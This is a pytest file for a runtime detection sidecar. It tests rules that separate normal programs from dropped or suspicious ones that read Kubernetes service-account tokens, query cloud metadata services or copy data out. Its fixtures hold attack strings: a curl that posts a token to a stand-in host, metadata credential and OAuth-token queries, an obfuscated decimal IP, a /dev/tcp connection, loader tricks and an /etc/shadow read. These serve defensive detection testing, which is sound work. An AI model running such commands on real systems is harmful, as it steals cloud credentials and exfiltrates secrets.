"""Own identity: which readers of a token and callers of a metadata service do their work, and what counts as dropped."""

import pytest

from sidecar.meaning import identity
from sidecar.meaning.program import program
from sidecar.model import Fields

TOKEN = "/var/run/secrets/eks.amazonaws.com/serviceaccount/token"  # noqa: S105 - a file
PYTHON = "/usr/bin/python3.11"


def _first(command: str) -> str:
    return command.partition(" ")[0]


def opening(exepath: str, command: str, file: str = TOKEN, *, is_upper: bool = False) -> Fields:
    name = _first(command).rpartition("/")[2][:15]
    line = " ".join([name, *command.split(" ")[1:]])
    exe = _first(command)
    return Fields(
        evt_type="openat", exepath=exepath, name=name, cmdline=line, exe=exe, file=file, cwd="/srv", is_upper=is_upper
    )


def is_own(fields: Fields) -> bool:
    run = program(fields)
    return identity.asks_for_identity(fields) and identity.is_own_identity(run, identity.dropped(fields, run))


@pytest.mark.parametrize(
    ("exepath", "command"),
    [
        ("/usr/local/bin/wal-g", "wal-g wal-push pg_wal/1"),
        (PYTHON, "/usr/bin/barman-cloud-wal-archive --gzip -e AES256 s3://b/ pg"),
        (PYTHON, "python3 /app/job.py"),
        (PYTHON, "/usr/local/bin/dbt run"),
        ("/usr/local/bin/node", "node dist/index.js"),
        ("/usr/lib/jvm/java-17/bin/java", "java -jar /app/app.jar"),
        ("/usr/sbin/php-fpm8.2", "php-fpm8.2"),
        ("/usr/local/bin/aws", "aws s3 ls"),
    ],
)
def test_a_program_of_the_image_that_reads_its_own_token_does_its_work(exepath: str, command: str) -> None:
    assert is_own(opening(exepath, command))


@pytest.mark.parametrize(
    ("exepath", "command"),
    [
        ("/usr/bin/cat", "cat token"),
        ("/usr/bin/dash", "sh -c read"),
        ("/usr/bin/curl", "curl -d @token http://x"),
        ("/bin/busybox", "base64 token"),
        (PYTHON, "python3 -c import"),
        (PYTHON, "python3 -"),
        (PYTHON, "python3"),
        (PYTHON, "python3 /tmp/x.py"),
        ("/usr/local/bin/node", "node -e 1"),
        ("/tmp/.x", ".x"),
        ("memfd:x", "kworker"),
        ("/usr/lib/ld-linux-x86-64.so.2", "ld.so /tmp/c"),
        ("/usr/lib/ld-linux-x86-64.so.2", "ld.so /bin/cat"),
    ],
)
def test_tools_and_what_was_dropped_take_it(exepath: str, command: str) -> None:
    assert not is_own(opening(exepath, command))


def test_a_program_on_the_upper_layer_counts_as_dropped_until_more_is_known() -> None:
    assert not is_own(opening("/opt/x", "x", is_upper=True))


def test_a_program_on_a_volume_is_normal() -> None:
    assert is_own(opening("/data/agent", "agent run"))


@pytest.mark.parametrize(
    "file",
    [
        TOKEN,
        "/run/secrets/azure/tokens/azure-identity-token",
        "/var/run/secrets/tokens/gcp-ksa/token",
        "/var/run/secrets/kubernetes.io/serviceaccount/..data/token",
        "/proc/self/root/var/run/secrets/kubernetes.io/serviceaccount/token",
    ],
)
def test_projected_tokens_are_identities(file: str) -> None:
    assert identity.asks_for_identity(opening("/app/x", "x", file))


@pytest.mark.parametrize(
    "file",
    [
        "/var/lib/kubelet/pods/1/volumes/kubernetes.io~projected/kube-api-access-x/token",
        "/proc/77/root/var/run/secrets/kubernetes.io/serviceaccount/token",
        "/host/var/run/secrets/kubernetes.io/serviceaccount/token",
        "/etc/shadow",
    ],
)
def test_what_belongs_to_others_is_not_an_own_identity(file: str) -> None:
    assert not is_own(opening("/app/x", "x", file))


def test_an_sdk_that_asks_the_metadata_service_does_its_work_and_curl_does_not() -> None:
    for exepath, command, own in (("/app/x", "x", True), ("/usr/bin/curl", "curl http://2852039166/", False)):
        fields = opening(exepath, command)
        fields.evt_type, fields.file, fields.remote_ip = "connect", None, "169.254.169.254"
        assert is_own(fields) == own


def contact(exepath: str, remote: str | None, command: str = "x", kind: str = "connect") -> bool:
    fields = opening(exepath, command)
    fields.evt_type, fields.remote_ip, fields.remote_port = kind, remote, 443
    run = program(fields)
    return identity.contacts(fields, run, identity.dropped(fields, run))


def test_a_dropped_program_that_connects_to_another_machine_is_a_contact() -> None:
    assert contact("/tmp/.x", "10.0.0.9")
    assert contact("memfd:x", "203.0.113.9")
    assert contact("/lib64/ld-linux-x86-64.so.2", None, "ld.so /tmp/c -s http://x/", "execve")
    assert not contact("/tmp/.x", "127.0.0.1")
    assert not contact("/usr/bin/x", "203.0.113.9")


def executed(command: str, exepath: str = "", parent: str = "/usr/bin/sh") -> Fields:
    fields = opening(exepath or f"/usr/bin/{_first(command)}", command)
    fields.evt_type, fields.file, fields.pexepath = "execve", None, parent
    return fields


@pytest.mark.parametrize(
    "command", ["aws s3 cp x s3://b/x", "aws --region eu-1 s3 sync . s3://b", "gsutil -m cp x gs://b"]
)
def test_a_copy_to_a_store_is_traffic(command: str) -> None:
    fields = executed(command)
    assert identity.moves_data(fields, program(fields))


@pytest.mark.parametrize("command", ["aws sts get-caller-identity", "aws s3 ls", "aws s3api get-object", "curl s3"])
def test_other_uses_of_a_clouds_command_line_are_not(command: str) -> None:
    fields = executed(command)
    assert not identity.moves_data(fields, program(fields))


def test_a_kubernetes_client_has_a_command_line_log_it_in() -> None:
    fields = executed("aws eks get-token --cluster-name prod", PYTHON, "/usr/bin/kubectl")
    assert identity.is_login_plugin(fields, program(fields))
    fields.pexepath = "/usr/bin/dash"
    assert not identity.is_login_plugin(fields, program(fields))


def asks(command: str, kind: str = "execve") -> Fields:
    return Fields(evt_type=kind, name="curl", cmdline=command, remote_ip="169.254.169.254")


@pytest.mark.parametrize(
    "command",
    [
        "curl -s http://169.254.169.254/latest/meta-data/local-ipv4",
        "sh -c echo IP=$(curl -s http://169.254.169.254/latest/meta-data/placement/region) > /run/x",
        "curl http://169.254.169.254/latest/dynamic/instance-identity/document",
        "curl -H Metadata-Flavor: Google http://metadata.google.internal/computeMetadata/v1/instance/zone",
        "curl -H Metadata:true http://169.254.169.254/metadata/instance/compute/location?api-version=2021-02-01",
    ],
)
def test_a_question_for_the_name_or_place_of_a_machine_asks_for_no_credential(command: str) -> None:
    assert identity.asks_for_facts(asks(command))
    assert identity.asks_for_facts(asks(command, "connect"))


@pytest.mark.parametrize(
    "command",
    [
        "curl http://169.254.169.254/latest/meta-data/",
        "curl http://169.254.169.254/latest/user-data",
        "curl -H Metadata:true http://169.254.169.254/metadata/instance?api-version=2021-02-01",
        "curl http://169.254.169.254/latest/meta-data/local-ipv4/../iam/info",
        "curl http://169.254.169.254/latest/meta-data/{hostname,iam/info}",
        "curl http://169.254.169.254/latest/meta-data/hostname http://169.254.169.254/latest/meta-data/iam/info",
        "curl http://metadata.google.internal/computeMetadata/v1/instance/attributes/kube-env",
        "curl http://169.254.169.254/metadata/identity/oauth2/token?resource=https://management.azure.com/",
        "curl -X PUT http://169.254.169.254/latest/api/token",
        "curl http://2852039166/latest/meta-data/hostname",
        "bash -c exec 3<>/dev/tcp/169.254.169.254/80",
    ],
)
def test_any_other_question_to_a_metadata_service_may_be_for_a_credential(command: str) -> None:
    assert not identity.asks_for_facts(asks(command))


def test_a_process_that_asks_for_facts_may_still_take_a_token() -> None:
    command = "curl -s http://169.254.169.254/latest/meta-data/local-ipv4 -d @token"
    assert not identity.asks_for_facts(opening("/usr/bin/curl", command))
